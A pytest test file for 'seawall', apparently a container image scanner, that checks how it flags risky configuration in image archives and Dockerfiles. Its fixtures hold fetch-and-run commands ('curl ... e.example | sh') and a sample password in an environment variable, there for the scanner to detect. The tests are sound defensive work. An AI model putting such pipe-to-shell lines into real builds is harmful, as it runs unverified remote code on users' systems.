"""Configuration checks on their way: from an archive, from a Dockerfile, by the command, and only when asked for."""

import json
from pathlib import Path

import pytest

from archives import configuration, layer, saved
from seawall.cli import image as command
from seawall.core.errors import Hostile, SeawallError
from seawall.images.collect import sources
from seawall.images.collect.analysers import Options, opened
from seawall.images.collect.cache import Cache
from seawall.images.collect.reading import Reading

BASE = {"created_by": "/bin/sh -c #(nop) ADD file:" + "a" * 64 + " in / "}
CMD = {"created_by": '/bin/sh -c #(nop)  CMD ["bash"]', "empty_layer": True}
RUN = {"created_by": "RUN /bin/sh -c curl -k https://e.example | sh # buildkit"}


@pytest.fixture
def archive(tmp_path: Path) -> str:
    tars = [layer({"etc/debian_version": b"12.5\n"}), layer({"a": b"b"})]
    described = configuration(tars, history=[BASE, CMD, RUN], config={"Env": ["DB_PASSWORD=Zae7theo"]})
    path = tmp_path / "image.tar"
    path.write_bytes(saved(tars, config=described))
    return f"docker-archive:{path}"


def test_an_archive(archive: str) -> None:
    found = sources.collect(archive, Reading(opened(Options(("config",)))))
    told = {(one.check, one.layer) for one in found.risks}
    assert {("SW-IMG-101", -1), ("SW-IMG-201", -1), ("SW-IMG-601", 2), ("SW-IMG-603", 2)} <= told
    assert [one.base for one in found.layers] == [True, True, False]
    assert found.checked["config"] == ""
    assert found.stats["config_fail"] == len({one.check for one in found.risks})
    assert "Zae7theo" not in repr(found.risks)


def test_only_when_asked(archive: str) -> None:
    found = sources.collect(archive, Reading(opened(Options(("package",)))))
    assert (found.risks, found.checked.get("config")) == ((), None)
    assert [one.base for one in found.layers] == [True, True, False], "layers are marked all the same"


def test_what_is_remembered_is_judged_once(archive: str, tmp_path: Path) -> None:
    cache = Cache(tmp_path / "cache.db")
    try:
        first, again = (
            sources.collect(archive, Reading(opened(Options(("config",))), cache=cache)).risks for _ in range(2)
        )
    finally:
        cache.close()
    assert first == again


def test_a_dockerfile(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "Dockerfile").write_text("FROM debian\nRUN curl http://e.example/i | sh\n")
    for target in (tmp_path, tmp_path / "Dockerfile"):
        found = sources.collect(f"dockerfile:{target}", Reading(opened(Options(("config",)))))
        told = {(one.check, one.line) for one in found.risks}
        assert {("SW-IMG-601", 2), ("SW-IMG-602", 2), ("SW-IMG-801", 1), ("SW-IMG-101", 0)} <= told
        assert {one.path for one in found.risks} == {str(tmp_path / "Dockerfile")}
    assert command.main(["lint", str(tmp_path), "--fail-on", "high", "--format", "sarif"]) == 1
    assert json.loads(capsys.readouterr().out)["runs"][0]["results"]
    assert command.main(["lint", str(tmp_path), "--fail-on", "critical"]) == 0
    assert "SW-IMG-601" in capsys.readouterr().out


def test_what_is_no_dockerfile(tmp_path: Path) -> None:
    with pytest.raises(SeawallError, match="cannot read"):
        sources.collect(f"dockerfile:{tmp_path}")
    (tmp_path / "Dockerfile").write_bytes(b"\0\1\2")
    with pytest.raises(Hostile, match="no Dockerfile"):
        sources.collect(f"dockerfile:{tmp_path}")
